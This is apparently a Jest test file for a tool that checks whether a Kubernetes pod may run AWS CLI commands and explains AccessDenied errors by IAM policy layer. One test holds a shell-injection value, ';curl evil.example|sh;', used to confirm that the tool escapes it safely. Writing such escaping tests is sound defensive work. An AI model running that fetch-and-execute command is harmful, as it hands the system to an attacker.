import { ask, denied, OUR_TAGS, run } from '../__testUtils__/judge';
import { inlinePolicyName } from '../../identity/names';
import { known, lacking } from '../framework/fact';
import { permissionCheckFor } from './tested';

describe('permissions.*', () => {
  const check = permissionCheckFor({ name: 's3', command: ['s3', 'ls'] });
  const ARN = 'arn:aws:iam::111122223333:role/path/api';
  /** An identity whose role the portal made. */
  const identity = {
    association: known({ roleArn: ARN, tags: OUR_TAGS }),
    role: known({ arn: ARN, name: 'api', tags: OUR_TAGS }),
    targetRole: known(null),
    rolePolicies: known({ attached: [], inline: [] }),
    expected: known({ settings: {} }),
  };
  const answer = (exitCode: number, text: string, over: object = {}) =>
    ask(check, {
      podRun: run({ permissions: { s3: { exitCode, text } } }),
      rulings: known([]),
      ...identity,
      ...over,
    });

  it('points to the one section of the documentation', () => {
    expect(check).toMatchObject({
      id: 'permissions.s3',
      anchor: 'permissions',
      title: 'The pod may run aws s3 ls',
      about: { tested: 's3 ls' },
    });
  });

  it('names a command that nothing breaks out of when it is pasted', () => {
    const { title } = permissionCheckFor({
      name: 's3',
      command: ['s3', 'ls', "';curl evil.example|sh;'"],
    });
    expect(title).toBe(
      "The pod may run aws s3 ls ''\\'';curl evil.example|sh;'\\'''",
    );
  });

  it('shows the statement only where it helps', () => {
    const text = (why: string) =>
      `An error occurred (AccessDenied) when calling the ListBuckets operation: User: arn:aws:sts::111122223333:assumed-role/r/eks-a is not authorized to perform: s3:ListAllMyBuckets ${why}`;
    const plain = answer(
      254,
      text(
        'because no identity-based policy allows the s3:ListAllMyBuckets action',
      ),
    );
    expect(plain).toMatchObject({
      status: 'fail',
      message: '"aws s3 ls" was denied: no identity policy allows it.',
    });
    expect(plain.fix?.snippet?.text).toContain('s3:ListAllMyBuckets');
    const scp = answer(
      254,
      text('with an explicit deny in a service control policy'),
    );
    expect(scp).toMatchObject({
      message:
        '"aws s3 ls" was denied: an explicit deny in the service control policy.',
    });
    expect(scp.fix?.snippet).toBeUndefined();
  });

  const denial = (why: string, over: object = {}) =>
    answer(
      254,
      `An error occurred (AccessDenied) when calling the ListBuckets operation: User: arn:aws:sts::111122223333:assumed-role/r/eks-a is not authorized to perform: s3:ListAllMyBuckets${why}`,
      over,
    );

  describe('by the policy of a resource while session tags are off', () => {
    const why =
      ' because no resource-based policy allows the s3:ListBucket action';
    const fixOf = (association: object) =>
      denial(why, {
        association: known({
          roleArn: ARN,
          id: 'a-1',
          disableSessionTags: true,
          ...association,
        }),
      }).fix!;
    const CAUSE =
      'AWS names the layer: no resource policy allows it. Session tags are off for this association, so a policy that grants by aws:PrincipalTag, as kubernetes-namespace or kubernetes-service-account, does not match its pods.';

    const OWNER =
      'Else: Let the owner of the resource allow the role in its policy (bucket, key, queue or topic).';

    it('turns them on by command where another owner has it', () => {
      const fix = fixOf({ tags: {} });
      expect(fix.cause).toBe(CAUSE);
      expect(fix.actions[0]).toContain('turn session tags on with the command');
      expect(fix.snippet?.text).toMatch(/--no-disable-session-tags$/);
    });

    it('turns them on in the form where it is ours', () => {
      expect(fixOf({ tags: OUR_TAGS })).toMatchObject({
        cause: CAUSE,
        actions: [expect.stringMatching(/with session tags on\.$/), OWNER],
        rerun: 'with-changes',
      });
    });

    it('has no command beside a session policy', () => {
      const fix = fixOf({ tags: {}, policy: '{}' });
      expect(fix.actions[0]).toContain('remove the session policy');
      expect(fix.snippet).toBeUndefined();
    });

    it('blames no tag that is on', () => {
      const { cause } = fixOf({ tags: {}, disableSessionTags: false });
      expect(cause).toBe('AWS names the layer: no resource policy allows it.');
    });
  });

  it('leads back to the form, and there to a policy that was detached', () => {
    const why = ' because no identity-based policy allows the action';
    expect(denial(why).fix).toMatchObject({
      actions: [expect.stringContaining('with a policy that allows it')],
      rerun: 'with-changes',
    });
    const policies = ['arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess'];
    const expected = known({ settings: {}, policies });
    const lost = denial(why, { expected }).fix!;
    expect(lost).toMatchObject({ rerun: 'as-before' });
    expect(lost.actions[0]).toContain(
      'The role has lost AmazonS3ReadOnlyAccess',
    );
    const attached = known({ attached: policies, inline: [] });
    expect(denial(why, { expected, rolePolicies: attached }).fix?.rerun).toBe(
      'with-changes',
    );
  });

  describe('of a role that the portal did not make', () => {
    const NONE = ' because no identity-based policy allows the action';
    const NAME = 'Allow-s3-ListAllMyBuckets';
    const foreign = (tags: object) => known({ arn: ARN, name: 'api', tags });
    const of = (over: object, why = NONE) => denial(why, over).fix!;

    it('prints the command that allows it, under a free name', () => {
      const { actions, snippet } = of({
        role: foreign({ ManagedBy: 'terraform' }),
        rolePolicies: known({ attached: [], inline: [NAME] }),
      });
      expect(actions).toEqual([
        'If the workload is meant to do it, run the command below as the owner of the role api (account 111122223333): it adds an inline policy and leaves the others alone.',
        'AWS does not name a resource, so the command allows the action on every resource. Restrict it if the action supports that.',
        expect.stringContaining('Terraform made the role'),
      ]);
      expect(snippet).toMatchObject({
        language: 'bash',
        text: expect.stringContaining(
          `aws iam put-role-policy --role-name api --policy-name ${NAME}-2 `,
        ),
      });
    });

    it('keeps to the resource that AWS names', () => {
      const { actions, snippet } = of(
        { role: foreign({}) },
        ` on resource: arn:aws:s3:::b${NONE}`,
      );
      expect(actions).toHaveLength(1);
      expect(snippet?.text).toContain('"Resource": "arn:aws:s3:::b"');
    });

    it('means the target role, also one that cannot be read', () => {
      const arn = 'arn:aws:iam::444455556666:role/reader';
      const { actions, snippet } = of({
        targetRole: known({ arn, role: denied }),
      });
      expect(actions[0]).toContain('role reader (account 444455556666)');
      expect(snippet?.text).toContain(
        `--role-name reader --policy-name ${NAME} `,
      );
    });
  });

  it('shows a statement where the association is not known', () => {
    const why = ' because no identity-based policy allows the action';
    const { fix } = denial(why, { association: denied });
    expect(fix?.snippet?.language).toBe('json');
  });

  it.each<[string, string, RegExp]>([
    [
      ' because no identity-based policy allows the s3:ListAllMyBuckets action',
      'AWS names the layer: no identity policy allows it.',
      /^Run "Give a component an AWS identity" again with a policy/,
    ],
    [
      ' because no resource-based policy allows the s3:ListAllMyBuckets action',
      'AWS names the layer: no resource policy allows it.',
      /^Let the owner of the resource allow the role/,
    ],
    [
      ' because no permissions boundary allows the s3:ListAllMyBuckets action',
      'AWS names the layer: no permissions boundary allows it.',
      /boundary allow it; a policy on the role alone does not help/,
    ],
    [
      ' with an explicit deny in a service control policy',
      'AWS names the layer: a statement of the service control policy denies it. A Deny wins over every Allow.',
      /from the Deny in a service control policy of the AWS organization/,
    ],
    [
      ' with an explicit deny in a resource control policy',
      'AWS names the layer: a statement of the resource control policy denies it. A Deny wins over every Allow.',
      /from the Deny in a resource control policy of the AWS organization/,
    ],
    [
      ' with an explicit deny in a VPC endpoint policy',
      'AWS names the layer: a statement of the VPC endpoint policy denies it. A Deny wins over every Allow.',
      /from the Deny in the policy of the VPC endpoint/,
    ],
    [
      '',
      'The message does not say which policy is in the way.',
      /^Compare the policies of the role, its boundary and the policy/,
    ],
  ])(
    'names who can allow it, by the layer in the answer of AWS: %s',
    (why, cause, to) => {
      const outcome = denial(why);
      expect(outcome.status).toBe('fail');
      expect(outcome.fix).toMatchObject({
        cause,
        actions: [expect.stringMatching(to)],
      });
    },
  );

  const ruled = (why: string, rulings: object[], over: object = {}) =>
    ask(check, {
      podRun: run({
        permissions: {
          s3: {
            exitCode: 254,
            text: `An error occurred (AccessDenied) when calling the ListBuckets operation: User: arn:aws:sts::111122223333:assumed-role/r/eks-a is not authorized to perform: s3:ListAllMyBuckets ${why}`,
          },
        },
      }),
      rulings: known(rulings),
      ...identity,
      ...over,
    });
  const ruling = (over: object) => ({
    action: 's3:ListAllMyBuckets',
    policy: 'guard',
    layer: 'identity policy',
    statement: '"NoBuckets"',
    effect: 'Deny',
    conditional: false,
    ...over,
  });

  it('names the statement that denies, and never says to attach a policy', () => {
    const outcome = ruled('with an explicit deny in an identity-based policy', [
      ruling({}),
      ruling({ effect: 'Allow', policy: 'reader', statement: 'number 1' }),
      ruling({ action: 's3:GetObject', policy: 'other' }),
    ]);
    expect(outcome.message).toBe(
      '"aws s3 ls" was denied: an explicit deny in the identity policy.',
    );
    expect(outcome.fix).toEqual({
      cause:
        'A Deny wins over every Allow, and the statement "NoBuckets" of the policy guard denies s3:ListAllMyBuckets.',
      actions: [
        'The portal did not write the statement "NoBuckets" of the policy guard in the role api, and never removes a Deny: someone may have added it on purpose. Find out why first; then an administrator can narrow or remove it.',
      ],
    });
    const why = 'with an explicit deny in an identity-based policy';
    const LIST = 's3:ListAllMyBuckets';
    const statement = (
      Effect: 'Allow' | 'Deny',
      Action: string | string[],
    ) => ({
      Effect,
      Action,
      Resource: '*',
    });
    const document = {
      Version: '2012-10-17',
      Statement: [
        statement('Deny', LIST.toUpperCase()),
        statement('Allow', '*'),
        statement('Deny', [LIST, 's3:DeleteBucket']),
        statement('Deny', 's3:List*'),
      ],
    };
    const inline = (index: number) => ({ index, document });
    const { fix } = ruled(why, [
      ruling({ inline: inline(0) }),
      // As a bundle has it, read apart from the first
      ruling({ inline: structuredClone(inline(2)), statement: 'number 3' }),
    ]);
    expect(fix!.actions[1]).toBe(
      `The command below takes ${LIST} out and leaves the rest of the policy as it was when this report was made.`,
    );
    const { text } = fix!.snippet!;
    expect(text).toMatch(/^aws iam put-role-policy /);
    expect(
      JSON.parse(text.slice(text.indexOf('{'), text.lastIndexOf('}') + 1)),
    ).toEqual({
      ...document,
      Statement: [
        statement('Allow', '*'),
        statement('Deny', ['s3:DeleteBucket']),
        statement('Deny', 's3:List*'),
      ],
    });
    // Of one that an associate has written and one that it has not, each has its own way out
    const both = ruled(why, [
      ruling({ inline: inline(0), policy: inlinePolicyName('own') }),
      ruling({ inline: inline(2), statement: 'number 3' }),
    ]).fix!;
    expect(both.actions[0]).toMatch(
      /^The portal did not write the statement number 3 of the policy guard in the role api, /,
    );
    expect(both.actions[2]).toBe(
      `Run "Give a component an AWS identity" again with an inline policy that does not deny ${LIST}.`,
    );
    expect(both.snippet!.text).toContain('--policy-name guard');
    expect(both.snippet!.text).not.toContain('eks-pod-identity');
    // Without the pattern more would be allowed than was tested
    const byPattern = ruled(why, [ruling({ inline: inline(3) })]).fix!;
    expect(byPattern.actions).toHaveLength(1);
    expect(byPattern.snippet).toBeUndefined();
    // Where one stands in a managed policy, the other's end helps nothing.
    expect(
      ruled('with an explicit deny in an identity-based policy', [
        ruling({ inline: inline(0) }),
        ruling({ policy: 'managed' }),
      ]).fix?.snippet,
    ).toBeUndefined();
    expect(
      ruled('with an explicit deny in an identity-based policy', []).fix
        ?.actions,
    ).toEqual([expect.stringContaining('the Deny in a policy of the role')]);
  });

  it('leaves a Deny to the owner of its policy, and one of the last request to the next', () => {
    const why = 'with an explicit deny in an identity-based policy';
    const theirs = known({ arn: ARN, name: 'api', tags: {} });
    expect(ruled(why, [ruling({})], { role: theirs }).fix?.actions).toEqual([
      'Ask the owner of that policy to exclude s3:ListAllMyBuckets from the Deny in the statement "NoBuckets" of the policy guard.',
    ]);
    const policy = inlinePolicyName('guard');
    expect(ruled(why, [ruling({ policy })]).fix?.actions).toEqual([
      'Run "Give a component an AWS identity" again with an inline policy that does not deny s3:ListAllMyBuckets.',
    ]);
  });

  it('waits where a policy allows it by now', () => {
    const none =
      'because no identity-based policy allows the s3:ListAllMyBuckets action';
    const allow = { effect: 'Allow', policy: 'reader', statement: 'number 1' };
    expect(ruled(none, [ruling(allow)]).fix).toEqual({
      cause: expect.stringContaining(
        'the statement number 1 of the policy reader allows s3:ListAllMyBuckets now',
      ),
      actions: ['Verify again in a minute.'],
    });
    expect(
      ruled(none, [ruling({ ...allow, conditional: true })]).fix,
    ).toMatchObject({
      cause: expect.stringMatching(
        /^The statement .* but its condition did not hold/,
      ),
      actions: [
        expect.stringContaining('Compare the condition'),
        expect.anything(),
      ],
    });
  });

  it('waits for the layer that AWS names, whatever another one allows', () => {
    const because = (layer: string) =>
      `because no ${layer} allows the s3:ListAllMyBuckets action`;
    const allow = (layer: string) =>
      ruling({ effect: 'Allow', policy: 'limits', layer });
    const cause = (why: string, layer: string) =>
      ruled(because(why), [allow(layer)]).fix?.cause;
    expect(cause('identity-based policy', 'permissions boundary')).toBe(
      'AWS names the layer: no identity policy allows it.',
    );
    expect(cause('permissions boundary', 'identity policy')).toBe(
      'AWS names the layer: no permissions boundary allows it.',
    );
    expect(cause('permissions boundary', 'permissions boundary')).toMatch(
      /^No permissions boundary allowed it when the pod asked, but .* limits allows/,
    );
    expect(
      ruled('with an explicit deny in a service control policy', [ruling({})])
        .fix?.cause,
    ).toMatch(
      /^AWS names the layer: a statement of the service control policy/,
    );
  });

  it('names the boundary of the role', () => {
    expect(
      denial(' because no permissions boundary allows the action', {
        role: known({
          arn: ARN,
          name: 'api',
          tags: {},
          permissionsBoundaryArn: 'arn:aws:iam::111122223333:policy/x/limits',
        }),
      }).fix?.cause,
    ).toBe(
      'AWS names the layer: no permissions boundary allows it. That of the role api is limits.',
    );
  });

  it('says where the session policy is changed, and the statement for it', () => {
    const of = (tags: object) =>
      denial(
        ' on resource: arn:aws:s3:::b because no session policy allows the action',
        { association: known({ roleArn: ARN, tags }) },
      ).fix!;
    expect(of(OUR_TAGS)).toMatchObject({
      cause: 'AWS names the layer: no session policy allows it.',
      actions: [
        expect.stringMatching(/a policy on the role alone does not help/),
        'Run "Give a component an AWS identity" again, with this statement in its session policy.',
      ],
      snippet: {
        language: 'json',
        text: expect.stringContaining('"Resource": "arn:aws:s3:::b"'),
      },
    });
    expect(of({ ManagedBy: 'terraform' }).actions[1]).toMatch(
      /^Change it in the code of Terraform/,
    );
  });

  it('shows a statement for the role, with the resource that AWS names, where one may help', () => {
    const statement = (why: string) => denial(why).fix?.snippet?.text;
    expect(JSON.parse(statement(' on resource: arn:aws:s3:::b')!)).toEqual({
      Effect: 'Allow',
      Action: 's3:ListAllMyBuckets',
      Resource: 'arn:aws:s3:::b',
    });
    expect(JSON.parse(statement('')!).Resource).toBe('*');
    // A statement helps neither against a Deny nor where another owner has to allow it.
    expect(
      statement(' with an explicit deny in an identity-based policy'),
    ).toBeUndefined();
    expect(
      statement(' because no resource-based policy allows the action'),
    ).toBeUndefined();
    // AWS names no action, so there is no statement to show.
    const silent = answer(
      254,
      'An error occurred (AccessDenied) when calling the ListBuckets operation: Access Denied',
    );
    expect(silent).toMatchObject({
      status: 'fail',
      message:
        '"aws s3 ls" was denied: the message does not say by which policy.',
    });
    expect(silent.fix?.snippet).toBeUndefined();
  });

  const failing = (code: string) =>
    `An error occurred (${code}) when calling the ListObjectsV2 operation: No.`;
  it.each<[string, number, string, string, string]>([
    [
      'allowed',
      0,
      '2026-01-01 bucket',
      'pass',
      '"aws s3 ls" succeeded in the pod.',
    ],
    [
      'of something that is not there',
      254,
      failing('NoSuchBucket'),
      'fail',
      '"aws s3 ls" failed because what it names does not exist.',
    ],
    [
      'refused for another reason',
      254,
      failing('ValidationError'),
      'fail',
      `"aws s3 ls" was refused: ${failing('ValidationError')}`,
    ],
    [
      'throttled',
      254,
      failing('ThrottlingException'),
      'unknown',
      '"aws s3 ls" got no answer from AWS that says anything about permissions.',
    ],
    [
      'without a way to AWS',
      255,
      'Could not connect to the endpoint URL',
      'unknown',
      '"aws s3 ls" got no answer from AWS that says anything about permissions.',
    ],
  ])('judges a command %s', (_what, exitCode, text, status, message) => {
    const outcome = answer(exitCode, text);
    expect(outcome).toMatchObject({ status, message });
    expect(outcome.observed).toBe(status === 'pass' ? undefined : text);
    expect(outcome.fix?.actions.length).toBe(status === 'pass' ? undefined : 1);
  });

  it('quotes what a shell would take apart', () => {
    expect(
      permissionCheckFor({
        name: 'tagged',
        command: ['ec2', 'describe-tags', '--filters', 'Name=key,Values=a b'],
      }).title,
    ).toBe(
      "The pod may run aws ec2 describe-tags --filters 'Name=key,Values=a b'",
    );
  });

  it('is unknown for a command that was not tried', () => {
    expect(ask(check, { podRun: run({}), rulings: known([]) }).status).toBe(
      'unknown',
    );
  });

  it('says why for a command that was left out, also where a pod tried it before that was asked', () => {
    const mayTest = lacking({ kind: 'withheld', sentence: 'Not tried: …' });
    const judge = (permissions: object) =>
      ask(check, {
        podRun: run({ permissions } as any),
        rulings: known([]),
        mayTest,
      });
    expect(judge({})).toEqual({
      status: 'skip',
      message: 'Not tried: …',
      withheld: true,
    });
    const name = check.id.slice('permissions.'.length);
    expect(judge({ [name]: { exitCode: 0, text: '' } }).status).toBe('pass');
  });
});
